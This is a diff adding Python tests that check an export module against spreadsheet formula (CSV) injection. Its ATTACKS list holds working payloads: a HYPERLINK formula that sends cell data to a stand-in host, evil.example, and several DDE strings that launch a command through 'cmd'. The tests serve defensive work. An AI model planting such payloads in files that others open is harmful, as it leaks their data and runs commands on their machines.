@@ -1,3 +1,4 @@
+import csv
 import datetime
 import io
 import json
@@ -95,3 +96,56 @@ def test_a_missing_column_is_named():
     with pytest.raises(ImportRejected) as rejected:
         require_columns(table, ["nama", "tahun"])
     assert rejected.value.errors[0].column == "tahun"
+
+
+ATTACKS = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+class Suggestions(Exporter):
+    identifier = "saran"
+    title = "Saran"
+    columns = [Column("saran", "Saran"), Column("angka", "Angka")]
+
+    def rows(self):
+        for attack in ATTACKS:
+            yield [attack, -5]
+        yield ["-5", -2.5]
+        yield ["Antrean lebih cepat - terima kasih", 0]
+
+
+def test_text_that_a_spreadsheet_would_evaluate_is_written_as_text_in_csv():
+    rows = list(csv.reader(io.StringIO(render(Suggestions(), "csv").decode("utf-8-sig"))))
+    assert [row[0] for row in rows[1:7]] == ["'" + attack for attack in ATTACKS]
+    # Numbers, and a text that is only a number, compute nothing and stay as they are.
+    assert [row[1] for row in rows[1:]] == ["-5"] * 6 + ["-2.5", "0"]
+    assert rows[7][0] == "-5"
+    assert rows[8][0] == "Antrean lebih cepat - terima kasih"
+
+
+def test_text_that_a_spreadsheet_would_evaluate_is_a_string_cell_in_xlsx():
+    sheet = load_workbook(io.BytesIO(render(Suggestions(), "xlsx"))).active
+    cells = list(sheet.iter_rows(min_row=2))
+    for (text, number), attack in zip(cells, ATTACKS, strict=False):
+        assert (text.value, text.data_type) == (attack, "s")
+        assert text.quotePrefix
+        assert (number.value, number.data_type) == (-5, "n")
+    assert (cells[6][0].value, cells[6][1].value) == ("-5", -2.5)
+    assert not any(cell.data_type == "f" for row in cells for cell in row)
+
+
+def test_json_carries_the_text_exactly():
+    records = json.loads(render(Suggestions(), "json"))
+    assert [record["saran"] for record in records[:6]] == ATTACKS
+
+
+def test_an_exported_csv_imports_back_without_the_protective_quote():
+    table = read_table(upload(render(Suggestions(), "csv"), "saran.csv"))
+    assert [row.values["saran"] for row in table.rows][:6] == ATTACKS
+    assert table.rows[6].values["saran"] == "-5"
